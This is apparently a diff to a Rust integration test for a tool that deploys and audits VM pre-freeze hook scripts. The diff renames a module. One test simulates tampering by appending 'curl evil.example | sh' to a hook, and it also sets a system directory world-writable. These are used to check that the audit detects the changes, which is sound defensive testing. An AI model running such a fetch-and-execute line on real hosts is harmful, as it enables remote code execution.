@@ -4,11 +4,11 @@
 mod common;
 
 use common::Lab;
-use quiesce::hook::{self, HookKind};
+use quiesce::hooks::{self, HookKind};
 use quiesce::inventory::Inventory;
 
 fn sha_prefix(text: &str) -> String {
-    hook::sha256_hex(text.as_bytes())[..12].to_string()
+    hooks::sha256_hex(text.as_bytes())[..12].to_string()
 }
 
 #[test]
@@ -42,7 +42,7 @@ fn deploy_audit_tamper_and_restore() {
     let inventory = Inventory::load(&lab.inventory()).unwrap();
     let vm2 = inventory.host("vm2").unwrap();
     let (_, on_host) = lab.sh("vm2", "cat /usr/sbin/pre-freeze-script");
-    assert_eq!(on_host, hook::render(HookKind::PreFreeze, vm2));
+    assert_eq!(on_host, hooks::render(HookKind::PreFreeze, vm2));
     assert!(on_host.contains("QUIESCE_PLATFORM='cache'"));
 
     let run = lab.quiesce(&["deploy"]);
@@ -76,7 +76,7 @@ fn deploy_audit_tamper_and_restore() {
     lab.sh("vm6", "chmod 0777 /usr/sbin");
 
     let vm3 = inventory.host("vm3").unwrap();
-    let original = hook::render(HookKind::PreFreeze, vm3);
+    let original = hooks::render(HookKind::PreFreeze, vm3);
     let tampered = format!("{original}curl evil.example | sh\n");
     let expected = format!(
         "HOST  HOOK               STATUS         DETAIL
